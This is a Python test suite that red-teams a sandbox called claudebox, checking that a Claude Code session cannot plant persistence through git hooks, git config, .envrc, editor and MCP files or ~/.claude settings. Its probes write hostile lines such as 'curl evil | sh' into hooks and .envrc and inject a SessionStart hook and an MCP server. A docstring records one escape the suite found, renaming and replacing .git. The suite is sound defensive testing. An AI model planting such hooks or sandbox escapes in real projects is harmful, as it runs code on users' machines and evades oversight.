"""Red team, persistence: nothing the host later executes or obeys can be changed from inside.

Protected (SECURITY.md): the project's .git (a mount point: it cannot be renamed or replaced),
.git/hooks (created empty when absent), .git/config, submodule and worktree config, the
project's existing .envrc .gitmodules .vscode .idea .mcp.json .claude/settings*.json
.claude/commands .claude/agents, and in ~/.claude settings.json CLAUDE.md agents commands
skills plugins hooks output-styles rules plus every unclassified entry (the host's, bound
read-only over the project's own ~/.claude: the host's ~/.claude itself is never writable
inside, and its credentials never enter). Not protected (each test below documents it):
protected files that did not exist at launch (claudebox warns after the session) and new files
in the git directory other than hooks (.git/commondir).

Each attack snippet also writes one unprotected file next to its targets (the control): it must
succeed, so a failing attack is the sandbox's doing, not a broken snippet.
"""

from __future__ import annotations

import hashlib
import json
import os
import subprocess
from pathlib import Path

from harness import GIT_STORE, Box, host_git, instance_dir

GIT = f"{GIT_STORE}/bin/git"


def snapshot(*roots: Path) -> dict[str, str]:
    """Every path below `roots` (and the roots) -> a digest of its content ("dir" for one)."""
    found: dict[str, str] = {}
    for root in roots:
        paths = [root, *root.rglob("*")] if root.is_dir() else [root]
        for path in paths:
            if path.is_symlink():
                found[str(path)] = f"link {path.readlink()}"
            elif path.is_dir():
                found[str(path)] = "dir"
            elif path.exists():
                found[str(path)] = hashlib.sha256(path.read_bytes()).hexdigest()
    return found


def git_project(box: Box) -> None:
    host_git(box, "init", "-q", cwd=box.project)
    box.write(box.project / "README", "hello\n", mode=0o644)
    host_git(box, "add", "README", cwd=box.project)
    host_git(box, "commit", "-q", "-m", "first", cwd=box.project)


def test_git_hooks_cannot_be_written(box: Box) -> None:
    git_project(box)
    before = snapshot(box.project / ".git" / "hooks")
    result = box.probe(
        "echo 'curl evil | sh' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; "
        "echo x > .git/hooks/post-checkout; rm -f .git/hooks/*.sample; "
        "mv .git/hooks .git/hooks-old; echo control > .git/description && echo control-ok"
    )
    assert result.stdout.splitlines() == ["control-ok"], result.stderr
    assert snapshot(box.project / ".git" / "hooks") == before
    assert not (box.project / ".git" / "hooks-old").exists()


def test_git_config_fsmonitor_and_hooks_path_cannot_be_set(box: Box) -> None:
    git_project(box)
    config = box.project / ".git" / "config"
    before = config.read_text()
    result = box.probe(
        f"{GIT} config core.fsmonitor 'touch /tmp/pwned'; echo fsmonitor=$?; "
        f"{GIT} config core.hooksPath /tmp/hooks; echo hooksPath=$?; "
        "printf '[core]\\n\\tfsmonitor = evil\\n' >> .git/config; echo append=$?; "
        "mv .git/config .git/config.old; echo mv=$?; "
        f"{GIT} init -q control && {GIT} -C control config core.fsmonitor x && echo control-ok"
    )
    assert result.returncode == 0, result.stderr
    lines = result.stdout.splitlines()
    assert lines[-1] == "control-ok"
    assert all(not line.endswith("=0") for line in lines[:-1]), lines
    assert config.read_text() == before
    # the control's own config was written, and (a new repository's) moved aside after
    aside = box.project / "control" / ".git" / "config.claudebox-quarantined"
    assert "fsmonitor = x" in aside.read_text()


def test_the_git_directory_cannot_be_renamed_away_and_replaced(box: Box) -> None:
    """The escape this suite found: .git renamed (its read-only mounts travel with it) and a
    fresh .git with an fsmonitor command put in its place. .git is now a mount point."""
    git_project(box)
    before = snapshot(box.project / ".git" / "config", box.project / ".git" / "hooks")
    result = box.probe(
        "mv .git .git-old; echo mv=$?; "
        "mkdir -p .git-new/hooks && printf '[core]\\n\\tfsmonitor = evil\\n' > .git-new/config; "
        "mv -T .git-new .git; echo replace=$?; "
        "rm -rf .git 2>/dev/null; test -d .git && echo still-there; "
        "echo control > control.txt && echo control-ok"
    )
    assert result.returncode == 0, result.stderr
    assert result.stdout.splitlines() == ["mv=1", "replace=1", "still-there", "control-ok"]
    assert not (box.project / ".git-old").exists()
    assert snapshot(box.project / ".git" / "config", box.project / ".git" / "hooks") == before
    assert "evil" not in (box.project / ".git" / "config").read_text()


def test_an_absent_hooks_directory_is_created_and_protected(box: Box) -> None:
    git_project(box)
    subprocess.run(["rm", "-rf", str(box.project / ".git" / "hooks")], check=True)
    result = box.probe(
        "mkdir -p .git/hooks; echo evil > .git/hooks/pre-commit; echo hook=$?; "
        "echo control > .git/description && echo control-ok"
    )
    assert result.stdout.splitlines() == ["hook=1", "control-ok"], result.stderr
    hooks = box.project / ".git" / "hooks"
    assert hooks.is_dir() and list(hooks.iterdir()) == []


def test_a_linked_worktrees_gitdir_pointer_and_commondir_are_read_only(box: Box) -> None:
    git_project(box)
    linked = box.home / "linked"
    host_git(box, "worktree", "add", "-q", str(linked), "-b", "feature", cwd=box.project)
    pointer = (linked / ".git").read_text()
    admin = box.project / ".git" / "worktrees" / "linked"
    before = snapshot(admin)
    # From the linked worktree: repoint its .git; from the main one: repoint its commondir.
    inside_linked = box.probe(
        "echo 'gitdir: /tmp/evil' > .git; echo pointer=$?; echo c > c.txt && echo control-ok",
        cwd=linked,
    )
    assert inside_linked.stdout.splitlines() == ["pointer=1", "control-ok"], inside_linked.stderr
    inside_main = box.probe(
        "echo ../../../evil > .git/worktrees/linked/commondir; echo commondir=$?; "
        "echo c > .git/worktrees/linked/control && echo control-ok"
    )
    assert inside_main.stdout.splitlines() == ["commondir=1", "control-ok"], inside_main.stderr
    (admin / "control").unlink()
    assert (linked / ".git").read_text() == pointer
    assert snapshot(admin) == before


def test_an_existing_envrc_cannot_be_edited_replaced_or_removed(box: Box) -> None:
    box.write(box.project / ".envrc", "use nix\n", mode=0o644)
    result = box.probe(
        "echo 'curl evil | sh' >> .envrc; echo append=$?; mv .envrc .envrc.old; echo mv=$?; "
        "rm -f .envrc; echo rm=$?; echo control > .envrc-control && echo control-ok"
    )
    assert result.stdout.splitlines() == ["append=1", "mv=1", "rm=1", "control-ok"]
    assert (box.project / ".envrc").read_text() == "use nix\n"


def test_existing_project_claude_vscode_and_mcp_files_are_read_only(box: Box) -> None:
    files = {
        ".claude/settings.json": '{"permissions": {}}\n',
        ".claude/settings.local.json": "{}\n",
        ".claude/commands/review.md": "review\n",
        ".claude/agents/helper.md": "helper\n",
        ".vscode/tasks.json": '{"version": "2.0.0", "tasks": []}\n',
        ".idea/workspace.xml": "<project/>\n",
        ".mcp.json": '{"mcpServers": {}}\n',
        ".gitmodules": "",
    }
    for relative, content in files.items():
        box.write(box.project / relative, content, mode=0o644)
    protected = [box.project / name for name in (".claude", ".vscode", ".idea", ".mcp.json")]
    before = snapshot(*protected, box.project / ".gitmodules")
    attack = "; ".join(
        f"echo evil > {relative} 2>/dev/null && echo WROTE {relative}" for relative in files
    )
    result = box.probe(
        f"{attack}; echo evil > .vscode/launch.json 2>/dev/null && echo WROTE launch; "
        "echo c > .claude/control.md && echo control-ok"
    )
    assert result.stdout.splitlines() == ["control-ok"], result.stdout
    (box.project / ".claude" / "control.md").unlink()
    assert snapshot(*protected, box.project / ".gitmodules") == before


def test_claude_settings_hooks_plugins_and_instructions_cannot_be_changed(box: Box) -> None:
    """The host's ~/.claude entries (named and unclassified) come in read-only over the
    project's own ~/.claude, but settings.json and plugins/, the project's own on top of the
    host's: written, renamed, replaced, nothing changes on the host; nor does the host's
    login, which a session sees only as its own placeholders. The control: a new file in
    ~/.claude is written, and lands in the project's instance, not in the host's."""
    claude = box.home / ".claude"
    box.write(claude / "settings.json", '{"hooks": {}}\n')
    box.write(claude / "CLAUDE.md", "be careful\n")
    box.write(claude / "plugins" / "installed_plugins.json", "{}\n")
    box.write(claude / "future-feature" / "config.json", "{}\n")  # unclassified: read-only
    box.write(claude / ".credentials.json", '{"token": "x"}\n')
    for name in ("hooks", "commands", "agents", "skills"):
        box.mkdir(claude / name)
    before = snapshot(claude)
    hook = '{"hooks": {"SessionStart": [{"hooks": [{"type": "command", "command": "evil"}]}]}}'
    result = box.probe(
        f"echo '{hook}' > ~/.claude/settings.json; echo settings=$?; "
        "mv ~/.claude/settings.json ~/.claude/s.old; echo mv=$?; "
        "mkdir -p ~/.claude/plugins/evil; echo plugin=$?; "
        "echo evil > ~/.claude/hooks/h.sh; echo hooks=$?; "
        "echo evil > ~/.claude/commands/c.md; echo commands=$?; "
        "echo evil >> ~/.claude/CLAUDE.md; echo claude-md=$?; "
        "echo evil > ~/.claude/future-feature/config.json; echo unclassified=$?; "
        "mv ~/.claude ~/.claude-old; echo mv-dir=$?; "
        'echo \'{"token": "y"}\' > ~/.claude/.credentials.json; '
        "echo control > ~/.claude/control.md && echo control-ok"
    )
    lines = result.stdout.splitlines()
    assert lines[-1] == "control-ok", result.stderr
    # the project's own settings.json and plugins/ took the writes; nothing else did
    written = [line for line in lines[:-1] if line.endswith("=0")]
    assert written == ["settings=0", "mv=0", "plugin=0"], lines
    assert snapshot(claude) == before  # every entry, the credentials included
    own = instance_dir(box.home, box.project) / "claude"
    assert (own / "control.md").read_text() == "control\n"


def test_mcp_servers_written_into_claude_json_stay_in_the_instance(box: Box) -> None:
    box.write(box.home / ".claude.json", json.dumps({"theme": "dark"}))
    evil = json.dumps({"mcpServers": {"evil": {"command": "/tmp/evil"}}})
    result = box.probe(f"echo '{evil}' > ~/.claude.json && echo written")
    assert result.stdout.strip() == "written", result.stderr
    assert json.loads((box.home / ".claude.json").read_text()) == {"theme": "dark"}


def test_new_protected_files_are_not_blocked_but_reported_after_the_session(box: Box) -> None:
    """Documented non-guarantee: a protected path absent at launch is created on the host (a
    stub for every one would litter every project). claudebox names each after the session.
    git's own redirections are the exception: absent, they are placeholders for the session."""
    git_project(box)
    result = box.probe(
        "mkdir -p .claude .vscode && echo '{\"hooks\": {}}' > .claude/settings.json && "
        "echo '{}' > .vscode/tasks.json && echo use nix > .envrc && echo created; "
        "echo ../evil > .git/commondir; echo commondir=$?"
    )
    assert result.stdout.splitlines()[0] == "created", result.stderr
    assert result.stdout.splitlines()[1] != "commondir=0", result.stderr
    for relative in (".claude/settings.json", ".vscode", ".envrc"):
        assert (
            f"claudebox: warning: the session created {box.project / relative}" in result.stderr
        ), result.stderr
        assert (box.project / relative).exists()
    # the placeholder is gone after the session: git reads no commondir, as before it
    assert not os.path.lexists(box.project / ".git/commondir")


def test_a_git_init_in_a_project_without_git_is_reported(box: Box) -> None:
    result = box.probe(f"{GIT} init -q && echo inited")
    assert result.stdout.strip() == "inited", result.stderr
    assert f"claudebox: warning: the session created {box.project / '.git'}" in result.stderr
